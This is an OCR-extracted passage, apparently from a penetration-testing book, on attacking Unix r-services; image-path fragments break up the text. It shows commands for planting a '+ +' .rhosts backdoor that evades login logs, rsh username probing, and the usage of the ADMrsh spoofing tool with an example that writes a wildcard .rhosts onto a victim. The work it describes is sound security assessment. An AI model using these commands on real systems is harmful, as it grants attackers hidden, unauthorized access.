7.4 R-Services

Unix r-services are common to commercial platforms, including Solaris, HP-UX, and AIX. I have assembled a list from the /etc/services file as follows:

exec            512/tcp

login           513/tcp

shell           514/tcp

Each service runs using standard PAM username and password authentication, which is overridden by ~/.rhosts and /etc/hosts.equiv entries defining trusted hosts and usernames. Locally, you will find that on Unix-based systems, the exec service is in.rexecd, the login service isin.rlogind, and the shell service is in.rshd.

7.4.1 Directly Accessing R-Services

From a Unix-based platform, you use rsh, rlogin, and rexec clients to access the respective r-services running on a remote host. Example 7-11 shows how you can use each client from the command shell.

Example 7-11. Standard r-services clients
# rshusage: rsh [-nd] [-l login] host [command]

# rlogin

usage: rlogin [ -8EL] [-e char] [ -l username ] host

# rexec

rexec: Require at least a host name and command.

Usage: rexec [ -abcdhns ] -l username -p password  host command

     -l username: Sets the login name for the remote host.

     -p password: Sets the password for the remote host.

     -n: Explicitly prompt for name and password.

     -a: Do not set up an auxiliary channel for standard error.

     -b: Use BSD-rsh type signal handling.

     -c: Do not close remote standard in when local inputcloses

     -d: Turn on debugging information.

     -h: Print this usage message.

     -s: Do not echo signals to the remote process. Unix ~/.rhosts and /etc/hosts.equiv files

The .rhosts file is in the user home directory under Unix and contains a list of username and IP address or machine hostname pairs, such as the following:

# pwd


# cat .rhostschris        mail.trustmatta.com



In this example, I can use any of the r-services (rsh, rlogin, or rexec) to connect to this host from mail.trustmatta.com if I am logged into the host as chris or from with any username on that host.

When a user connects to the host running rshd (the remote shell daemon running on TCP port 514), the source IP address is cross-referenced against the .rhosts file, and the username is verified by querying the identd service running at the source. If these details are valid, direct access is given to the host without even requiring a password.

A simple, yet effective, backdoor for most Unix-based systems running rshd is to place an .rhosts file in the home directory of the bin user (/usr/bin/ under Solaris) containing the wildcards + +. Example 7-12 demonstrates planting this file to provide access to the host.

Example 7-12. Setting up a simple rsh back door
# echo + + > /usr/bin/.rhosts

# exit

hacker@launchpad/$ rsh -l bin csh -i

Warning: no access to tty; thus no job control in this shell...www% w

  5:45pm  up 33 day(s),  1 user,  load average: 0.00, 0.00, 0.01

User     tty           login@  idle   JCPU   PCPU  what

root     console      19Dec0219days                -sh


A useful feature with the rshd service is that terminals aren't assigned to processes run through rsh. This means that bin access through the rshd backdoor doesn't appear in the utmp or wtmp logs, so it is cloaked within the system (not appearing within w or who listings). Unfortunately, the network connection into TCP port 514 appears if a user executes a netstat -a command, and processes run by the bin user also appear in ps -ef listings.

It is very easy to get from user/bin to user/root under Unix-based systems because the bin user owns many binaries (found under directories including /usr/sbin/) that run as services with root privileges.The /etc/hosts.equiv file is a system-level file that defines trusted hostnames or IP addresses that can freely access r-services. SunOS 4.1.3_U1 shipped with a + wildcard in the /etc/hosts.equiv file, which allows attackers to gain direct bin-level access to SunOS 4.1.3_U1 servers with TCP port 514 open.

7.4.2 R-Services Brute Force

User passwords can be brute-forced across rlogindbecause the service calls /bin/login and the standard PAM mechanism. The rshd and rexecd services don't pass username and password details to the login program in this way; they rely on .rhosts and /etc/hosts.equiv entries for authentication.

I recommend that for each user enumerated through finger, SMTP, and other information-leak vulnerabilities, you should try to access the host directly through open r-services in the following fashion:

# rsh -l chris csh -i

permission denied

# rsh -l test csh -i

permission denied

# rsh -l root csh -i

permission denied

# rsh -l bin csh -i

Warning: no access to tty; thus no job control in this shell...


It's possible to use rsh to log into a Solaris server as the superuser root if the user password isn't set. I witnessed this once in a live environment during an onsite audit I undertook in a hosting center that contained Solaris web servers built and configured using automated scripts.

7.4.3 Spoofing RSH Connections

If you are aware of trust between hosts, you can spoof RSH connections to appear as if they are from trusted hosts using IP sequence prediction and falsified client responses to match entries in .rhosts files server-side. One tool that can perform RSH spoofing and execute commands is ADMrsh, available from the ADM site (http://adm.freelsd.net/ADM/). The utility requires the latest version of ADMspoof, and its header files (found in ADM-spoof-NEW.tgz at the time of writing) and its usage is shown here:



 It's very easy to use (like all the ADM products).

 ADMrsh [ips] [ipd] [ipl]  [luser] [ruser] [cmd]

 Parameters List :

 ips   =   ip source (ip of the trusted host)ipd   =   ip destination (ip of the victim)

 ipl   =   ip local (your ip to receive the informations)

 luser =   local user

 ruser =   remote user

 cmd   =   command to execute

 If ya don't understand, this is an example :

 ADMrsh a.foo.us b.foo.us bad.org root root "echo\"+ +\">/.rhosts"

 Credit's : Heike , ALL ADM CreW , !w00w00 , Darknet

 ADMrsh 0.5 pub (c) ADM  <-- hehe ;)

If the ADM web site is down or no longer archives the aforementioned files, you can download them from the O'Reilly security tools archive at the following locations (please note case-sensitivity):


7.4.4 Known R-Services Vulnerabilities

At the time of writing, the CERT vulnerability notes list (http://www.kb.cert.org/vuls/) doesn't highlight any serious exploitable bugs in r-services. The MITRE CVE list does a good job of listing historic issues, as detailed in Table 7-5.

Table 7-5. Remotely exploitable r-services vulnerabilities

CVE namershd allows users to log in with a NULL username and execute commands.



rexecd for various SVR4 systems allows remote attackers to execute arbitrary commands.



rshd generates different error messages when a valid username is provided versusan invalid name; this allows remote attackers to determine valid users.



SCO Unix OpenServer 5.0.5 and UnixWare 7.0.1 and earlier allows remote attackers to gainprivileges through rshd and rlogind.